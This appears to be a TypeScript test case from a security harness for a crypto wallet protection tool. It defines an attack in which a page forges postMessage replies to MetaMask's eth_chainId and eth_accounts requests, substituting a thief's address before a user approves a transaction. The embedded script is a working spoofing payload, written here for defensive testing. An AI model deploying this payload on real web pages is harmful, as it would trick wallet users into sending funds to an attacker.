import { ACCOUNTS } from '../../setup/fixture.ts';
import type { Attack } from '../Attack.ts';

/** The page answers the guardian's own questions to the wallet; a person approved what that made of it. */
export const attack: Attack = {
  entry: 'window.postMessage to the inpage script',
  mechanism: "answers to the guardian's eth_chainId and eth_accounts forged",
  discovers: false,
  script: `
await kit.ready();
addEventListener('message', (event) => {
  const body = event.data?.target === 'metamask-contentscript' && event.data.data?.data;
  const result = { eth_chainId: '0x1', eth_accounts: [kit.thief] }[body?.method];
  if (result) window.postMessage({ target: 'metamask-inpage', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id: body.id, result } } }, location.origin);
}, true);
kit.post(kit.rpc(kit.send()));
`,
  drive: async (stage) => {
    await stage.approve(stage.marker, ACCOUNTS.attacker.address);
  },
};
